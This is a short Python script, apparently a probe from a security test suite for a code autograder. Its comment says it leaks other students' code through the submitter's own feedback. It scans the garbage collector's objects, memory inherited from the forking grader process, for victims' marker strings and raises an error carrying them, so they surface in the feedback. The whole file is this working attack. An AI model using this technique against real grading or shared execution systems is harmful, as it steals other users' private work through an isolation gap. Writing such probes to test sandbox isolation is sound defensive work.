# Leak other students' code through the own feedback: scan gc.get_objects() (what the process that forked
# us had in memory) for the victims' marker comments.
def _attack():
    import gc
    import re

    pattern = re.compile(r"VICTIM-[0-9a-f]{12}-[0-9]")
    found = set()

    def look(value):
        if isinstance(value, str) and "VICTIM-" in value:
            found.update(pattern.findall(value))

    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):
                items = list(obj.values())
            elif isinstance(obj, (list, tuple)):
                items = list(obj)
            else:
                items = list(vars(obj).values()) if hasattr(obj, "__dict__") else []
            for item in items:
                look(item)
                if isinstance(item, dict):
                    for value in item.values():
                        look(value)
        except Exception:
            continue
    return ", ".join(sorted(found))


_leaked = ""
try:
    _leaked = _attack()
except Exception:
    pass
if _leaked:
    raise RuntimeError(f"LEAK gc: {_leaked}")
